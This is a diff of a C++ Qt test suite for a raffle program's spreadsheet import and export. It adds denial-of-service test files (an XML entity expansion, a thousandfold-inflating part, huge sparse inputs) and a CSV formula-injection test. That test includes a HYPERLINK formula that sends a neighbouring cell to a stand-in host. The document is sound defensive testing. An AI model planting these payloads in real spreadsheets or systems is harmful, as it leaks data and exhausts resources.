@@ -4,10 +4,12 @@
 #include "csvreader.h"
 #include "drive.h"
 #include "entrantpool.h"
+#include "hostilesheets.h"
 #include "operationerror.h"
 #include "resultsexport.h"
 #include "setting.h"
 #include "sheettable.h"
+#include "sheettask.h"
 #include "spreadsheetimport.h"
 #include "testenv.h"
 #include "textcodec.h"
@@ -25,7 +27,10 @@
 #include <QPlainTextEdit>
 #include <QProcess>
 #include <QPushButton>
+#include <QScreen>
+#include <QSignalSpy>
 #include <QStandardPaths>
+#include <QTableWidget>
 #include <QTest>
 
 namespace {
@@ -93,9 +98,9 @@ QString writeHandMade(TestEnv& env, const QString& name, const QString& rows) {
 }
 
 // The message of the error a read throws, or an empty text when it reads.
-QString readError(const QString& path) {
+QString readError(const QString& path, const SheetLimits& limits = SheetLimits()) {
     try {
-        SheetImport::readFile(path);
+        SheetImport::readFile(path, limits);
     } catch (const OperationError& error) {
         return error.message();
     }
@@ -124,8 +129,11 @@ private Q_SLOTS:
     void csvCells();
     void xlsxCells();
     void badFiles();
+    void hostileFiles();
     void importPreview();
+    void importOffTheGuiThread();
     void exportRoundTrip();
+    void csvExportRunsNoFormula();
     void exportFailureKeepsFile();
 };
 
@@ -275,10 +283,104 @@ void TestSpreadsheet::badFiles() {
     dialog.show();
     env.dialogs.files.enqueue(env.path("cut.xlsx"));
     QTest::mouseClick(child<QPushButton>(dialog, "btn_insheet"), Qt::LeftButton);
-    QCOMPARE(env.dialogs.boxes.constLast().icon, Dialogs::Icon::Critical);
+    QTRY_COMPARE(env.dialogs.boxes.constLast().icon, Dialogs::Icon::Critical);
     QVERIFY(!dialog.findChild<SpreadsheetImportDialog*>());
     QCOMPARE(env.readFile("抽奖名单.txt"), gbk(QStringLiteral("旧\r\n")));
     QCOMPARE(form.model().pool.count(), 1);
+}
+
+void TestSpreadsheet::hostileFiles() {
+    // Files made to take the memory or the time of the machine that runs the show: each is refused
+    // with a message naming the limit, at the limit. The big ones are made here in a moment.
+    TestEnv env;
+    using namespace HostileSheets;
+    const auto book = [&](const char* name, const QList<Part>& parts, const QByteArray& rels = {}) {
+        const QString path = env.path(QString::fromLatin1(name));
+        return writePackage(path, workbook(rels) + parts) ? path : QString();
+    };
+    const QByteArray cell = "<c><v>1</v></c>";
+    const QByteArray row256 = "<row>" + cell.repeated(256) + "</row>";
+    const QByteArray sharedCells = "<row>" + QByteArray("<c t=\"s\"><v>0</v></c>").repeated(256) + "</row>";
+    const QByteArray doctype = "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY e \"" + QByteArray(4000, 'x') +
+                               "\">]><worksheet><sheetData><row><c t=\"inlineStr\"><is><t>";
+    const QString longLine = env.path("line.csv");
+    QVERIFY(writeRepeated(longLine, {}, "x", 1'000'000));
+    const QString huge = env.path("huge.csv");
+    QFile sparse(huge);
+    QVERIFY(sparse.open(QIODevice::WriteOnly) && sparse.resize(200'000'000));
+    sparse.close();
+    // The limits of a table's size under lower limits (reaching 4 million cells takes a second or two;
+    // the program's own limits on the issue's files are measured by measure_import).
+    SheetLimits small;
+    small.maxCells = 100'000;
+    small.maxChars = 1'000'000;
+    SheetLimits few;
+    few.maxElements = 1000;
+    const QString wideCsv = env.path("wide.csv");
+    QVERIFY(writeRepeated(wideCsv, {}, QByteArray("1,").repeated(255) + "1\n", 2000));
+    const QList<std::tuple<QString, SheetLimits, QString>> refused{
+        // 3 GiB of blanks between rows (3 MB), a cell of 10^9 characters (1 MB).
+        {book("blanks.xlsx", {sheet(cell, QByteArray(1024, ' '), 3 << 20)}), {}, QStringLiteral("1024 KB")},
+        {book("cell.xlsx",
+              {sheet("<row><c t=\"inlineStr\"><is><t>", "x", 1'000'000'000, "</t></is></c></row>")}),
+         {},
+         QStringLiteral("32767")},
+        // A part inflating a thousand times (256 MiB of empty cells).
+        {book("cells.xlsx", {sheet("<row>", "<c/>", 64 << 20, "</row>")}), {}, QStringLiteral("100 倍")},
+        // A shared string of 100,000 characters; one of 32,000 in 20 rows of 256 cells.
+        {book("string.xlsx", {sheet(sharedCells), sharedStrings("<si><t>", "x", 100'000, "</t></si>")}),
+         {},
+         QStringLiteral("32767")},
+        {book("shared.xlsx",
+              {sheet({}, sharedCells, 20), sharedStrings("<si><t>", "x", 32'000, "</t></si>")}),
+         small, QStringLiteral("100 万个字")},
+        // An entity of 4,000 characters referenced 5 million times.
+        {book("entity.xlsx", {{QStringLiteral("xl/worksheets/sheet1.xml"), doctype, "&e;", 5'000'000,
+                               "</t></is></c></row></sheetData></worksheet>"}}),
+         {},
+         QStringLiteral("DOCTYPE")},
+        // A sheet that is also the shared strings.
+        {book("twice.xlsx", {sheet(cell)},
+              "<Relationship Id=\"rId1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
+              "<Relationship Id=\"rId2\" Type=\"x/sharedStrings\" Target=\"worksheets/sheet1.xml\"/>"),
+         {},
+         QStringLiteral("重复引用")},
+        // 51.2 million cells (200,000 rows of 256), 512,000 as CSV; a CSV of 200 MB; a line of a million
+        // characters; elements without end (each costs time, empty or not).
+        {book("table.xlsx", {sheet({}, row256, 200'000)}), small, QStringLiteral("10 万个单元格")},
+        {wideCsv, small, QStringLiteral("10 万个单元格")},
+        {huge, {}, QStringLiteral("128 MB")},
+        {longLine, {}, QStringLiteral("32767")},
+        {book("elements.xlsx", {sheet("<row>", "<c/>", 2000, "</row>")}), few,
+         QStringLiteral("1000 个 XML 元素")},
+    };
+    for (const auto& [path, limits, says] : refused) {
+        QVERIFY(!path.isEmpty());
+        const QString error = readError(path, limits);
+        QVERIFY2(error.contains(says), qPrintable(path + u' ' + error));
+    }
+
+    // A thousand relationships to one part read it once.
+    QByteArray rels = "<Relationship Id=\"rId1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.xml\"/>";
+    for (int i = 0; i < 1000; ++i)
+        rels += "<Relationship Id=\"s" + QByteArray::number(i) +
+                "\" Type=\"x/sharedStrings\" Target=\"sharedStrings.xml\"/>";
+    const QList<Part> parts{sheet(sharedCells),
+                            sharedStrings({}, "<si><t>" + QByteArray(1000, 'x') + "</t></si>", 1000)};
+    ReadControl control;
+    const SheetTable table = XlsxReader::read(book("rels.xlsx", parts, rels), SheetLimits(), &control);
+    QCOMPARE(table.rowCount(), 1);
+    QCOMPARE(table.cell(0, 255).size(), 1000);
+    qint64 partBytes = 0;
+    for (const Part& part : workbook(rels) + parts)
+        partBytes += part.head.size() + part.repeated.size() * part.times + part.tail.size();
+    QVERIFY(control.inflated() <= partBytes);
+
+    // A line of 10 million commas: fields right of the last column are not even collected.
+    QVERIFY(writeRepeated(longLine, "a,", ",", 10'000'000, "b"));
+    const SheetTable commas = SheetImport::readFile(longLine);
+    QCOMPARE(commas.rows(), QList<QStringList>{{QStringLiteral("a")}});
+    QVERIFY(commas.columnsCut());
 }
 
 void TestSpreadsheet::importPreview() {
@@ -295,8 +397,8 @@ void TestSpreadsheet::importPreview() {
     QTest::mouseClick(child<QPushButton>(dialog, "btn_insheet"), Qt::LeftButton);
     QCOMPARE(env.dialogs.boxes.constLast().kind, QStringLiteral("openFile"));
     QVERIFY(env.dialogs.boxes.constLast().text.contains(QStringLiteral("*.xlsx")));
+    QTRY_VERIFY(dialog.findChild<SpreadsheetImportDialog*>());
     auto* preview = dialog.findChild<SpreadsheetImportDialog*>();
-    QVERIFY(preview);
     QTRY_VERIFY(preview->isVisible());
     QVERIFY(child<QCheckBox>(*preview, "headerRow")->isChecked());
     QCOMPARE(child<QLabel>(*preview, "entrantCount")->text(), QStringLiteral("共 3 位抽奖人员"));
@@ -312,6 +414,7 @@ void TestSpreadsheet::importPreview() {
     QCOMPARE(preview->columns(), (QList<int>{2, 0, 1}));
     QCOMPARE(child<QLabel>(*preview, "sampleLine")->text(), QStringLiteral("第一位：销售部 张三 00123"));
     QTest::mouseClick(child<QPushButton>(*preview, "importButton"), Qt::LeftButton);
+    QTRY_COMPARE(env.dialogs.texts().value(env.dialogs.texts().size() - 1), QStringLiteral("资料导入成功！"));
 
     const QString expected = QStringLiteral("销售部 张三 00123\r\nLi, Si 00456\r\n研发部 𠮷田 00789\r\n");
     QCOMPARE(env.readFile("抽奖名单.txt"), TextCodec::toGbk(expected));
@@ -319,7 +422,6 @@ void TestSpreadsheet::importPreview() {
     QCOMPARE(form.model().pool.count(), 3);
     QVERIFY(
         child<QPlainTextEdit>(dialog, "Memo1")->toPlainText().contains(QStringLiteral("研发部 𠮷田 00789")));
-    QCOMPARE(env.dialogs.texts().constLast(), QStringLiteral("资料导入成功！"));
 
     // Cancelling the preview writes nothing.
     env.dialogs.clear();
@@ -331,6 +433,67 @@ void TestSpreadsheet::importPreview() {
                       Qt::LeftButton);
     QCOMPARE(env.readFile("抽奖名单.txt"), TextCodec::toGbk(expected));
     QVERIFY(env.dialogs.texts().isEmpty());
+}
+
+void TestSpreadsheet::importOffTheGuiThread() {
+    TestEnv env;
+    // Whatever the work throws ends in the operator's message naming the file, never in an abort.
+    const QString path = env.path("list.csv");
+    const QList<std::pair<SheetTask::Work, QString>> outcomes{
+        {[](ReadControl&) { throw std::bad_alloc(); }, QStringLiteral("内存不足")},
+        {[](ReadControl&) { throw std::runtime_error("broken"); }, QStringLiteral("broken")},
+        {[](ReadControl&) { throw 42; }, QStringLiteral("未知错误")},
+        {[](ReadControl&) {}, QString()},
+    };
+    for (const auto& [work, says] : outcomes) {
+        SheetTask task(path, work);
+        QSignalSpy finished(&task, &SheetTask::finished);
+        task.start();
+        QTRY_COMPARE(finished.size(), 1);
+        QCOMPARE(task.failure().isEmpty(), says.isEmpty());
+        QVERIFY(task.failure().contains(says) && task.failure().contains(says.isEmpty() ? QString() : path));
+    }
+    // Both readers look at the control before they read anything.
+    env.writeFile("list.csv", "张三\n");
+    QVERIFY(HostileSheets::writePackage(env.path("list.xlsx"),
+                                        HostileSheets::workbook() + QList{HostileSheets::sheet("<row/>")}));
+    ReadControl cancelled;
+    cancelled.cancel();
+    for (const char* name : {"list.csv", "list.xlsx"})
+        QVERIFY_THROWS_EXCEPTION(ReadCancelled,
+                                 SheetImport::readFile(env.path(name), SheetLimits(), &cancelled));
+
+    // Through the settings dialog, cancelled before the read has ended: no preview, no box, the list
+    // as it was.
+    env.writeGbk("抽奖名单.txt", QStringLiteral("旧\r\n"));
+    TForm1 form;
+    Tfsetting dialog(form);
+    dialog.show();
+    env.dialogs.clear();
+    env.dialogs.files.enqueue(path);
+    QTest::mouseClick(child<QPushButton>(dialog, "btn_insheet"), Qt::LeftButton);
+    child<QPushButton>(*child<QDialog>(dialog, "importProgress"), "progressCancel")->click();
+    QTRY_VERIFY(!dialog.findChild<SheetTask*>());
+    QCOMPARE(env.dialogs.boxes.size(), 1);
+    QVERIFY(!dialog.findChild<SpreadsheetImportDialog*>());
+    QCOMPARE(env.readFile("抽奖名单.txt"), gbk(QStringLiteral("旧\r\n")));
+
+    // 300 columns of long texts: the preview shows 256 of them cut short, and fits the screen.
+    QByteArray wide = "姓名";
+    for (int c = 1; c < 300; ++c)
+        wide += ",列" + QByteArray::number(c);
+    wide += "\n" + (QByteArray(30'000, 'x') + ',').repeated(300) + "\n";
+    env.writeFile("wide.csv", wide);
+    env.dialogs.files.enqueue(env.path("wide.csv"));
+    QTest::mouseClick(child<QPushButton>(dialog, "btn_insheet"), Qt::LeftButton);
+    QTRY_VERIFY(dialog.findChild<SpreadsheetImportDialog*>());
+    auto* preview = dialog.findChild<SpreadsheetImportDialog*>();
+    QTRY_VERIFY(preview->isVisible());
+    QVERIFY(child<QLabel>(*preview, "columnsNote")->isVisibleTo(preview));
+    auto* table = child<QTableWidget>(*preview, "previewTable");
+    QCOMPARE(table->columnCount(), 256);
+    QCOMPARE(table->item(1, 0)->text().size(), SpreadsheetImportDialog::kShownChars + 1);
+    QVERIFY(preview->frameGeometry().width() <= preview->screen()->availableGeometry().width());
 }
 
 void TestSpreadsheet::exportRoundTrip() {
@@ -408,6 +571,71 @@ void TestSpreadsheet::exportRoundTrip() {
                   {env.path("results.xlsx")});
     QVERIFY(seen);
     QCOMPARE(seen->trimmed(), QStringLiteral("A2 00123 s True True 5 补抽"));
+}
+
+void TestSpreadsheet::csvExportRunsNoFormula() {
+    // Entrant names from outside that a spreadsheet would run: a link that sends the next cell away, a
+    // sum, a tab before a formula (the split of the line trims it), a CR before one.
+    TestEnv env;
+    WinnerLists lists;
+    lists.setPrizeNames({QStringLiteral("一等奖")});
+    lists.appendAll(WinnerLists::headerLine(3, QStringLiteral("一等奖"), QDateTime(QDate(2025, 1, 18), {})));
+    const QStringList names{QStringLiteral("=HYPERLINK(\"http://x.example/?\"&D3,\"点我\")"),
+                            QStringLiteral("\t=2+2\t-5\t+1+1"), QStringLiteral("@SUM(1,2)  \r=3*3  a=b")};
+    for (const QString& name : names)
+        lists.appendAll(WinnerLists::winnerLine(QStringLiteral("一等奖"), name));
+    QList<QStringList> table = ResultsExport::table(ResultsExport::rows(lists, {}));
+    QCOMPARE(table.at(2).mid(3, 3), (QStringList{"=2+2", "-5", "+1+1"}));
+    // A tab or a CR at the start of a cell (the split trims them off names).
+    table.append({QString(), QString(), QString(), QStringLiteral("\t=4+4"), QStringLiteral("\r=5+5")});
+    ResultsExport::writeCsv(env.path("results.csv"), table);
+    const QStringList expected{QStringLiteral("'=HYPERLINK(\"http://x.example/?\"&D3,\"点我\")"),
+                               QStringLiteral("'=2+2"),
+                               QStringLiteral("'-5"),
+                               QStringLiteral("'+1+1"),
+                               QStringLiteral("'@SUM(1,2)"),
+                               QStringLiteral("'=3*3"),
+                               QStringLiteral("a=b"),
+                               QStringLiteral("'\t=4+4"),
+                               QStringLiteral("'\r=5+5")};
+    const SheetTable back = SheetImport::readFile(env.path("results.csv"));
+    QStringList cells;
+    for (int row = 1; row < back.rowCount(); ++row)
+        for (int column = 3; column < 6; ++column)
+            if (!back.cellView(row, column).isEmpty())
+                cells << back.cell(row, column);
+    QCOMPARE(cells, expected);
+
+    // A spreadsheet application opens it (LibreOffice, formulas evaluated as its CSV import does by
+    // default) and keeps every cell a text (a line break its own way); openpyxl reads what it made.
+    const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
+    if (soffice.isEmpty() || !haveOpenpyxl())
+        QSKIP("LibreOffice (libreoffice-calc-nogui) and python3-openpyxl are needed to open the CSV");
+    QProcess convert;
+    convert.start(soffice, {QStringLiteral("-env:UserInstallation=file://") + env.path("profile"),
+                            QStringLiteral("--headless"), QStringLiteral("--norestore"),
+                            QStringLiteral("--infilter=CSV:44,34,76,1"), QStringLiteral("--convert-to"),
+                            QStringLiteral("xlsx"), QStringLiteral("--outdir"), env.dir.path(),
+                            env.path("results.csv")});
+    QVERIFY(convert.waitForFinished(180000));
+    QVERIFY2(QFile::exists(env.path("results.xlsx")), convert.readAllStandardError().constData());
+    const std::optional<QString> seen =
+        runPython(QStringLiteral("import sys, openpyxl\n"
+                                 "ws = openpyxl.load_workbook(sys.argv[1]).active\n"
+                                 "for row in ws.iter_rows(min_row=2, min_col=4, max_col=6):\n"
+                                 "    for c in row:\n"
+                                 "        if c.value is not None:\n"
+                                 "            print(c.data_type + str(c.value).replace('\\t', '<TAB>')\n"
+                                 "                  .replace('\\r', '<BR>').replace('\\n', '<BR>'))\n"),
+                  {env.path("results.xlsx")});
+    QVERIFY(seen);
+    QStringList shown;
+    for (const QString& cell : expected)
+        shown << u's' + QString(cell)
+                            .replace(u'\t', QLatin1String("<TAB>"))
+                            .replace(u'\r', QLatin1String("<BR>"))
+                            .replace(u'\n', QLatin1String("<BR>"));
+    QCOMPARE(seen->trimmed().split(u'\n'), shown);
 }
 
 void TestSpreadsheet::exportFailureKeepsFile() {
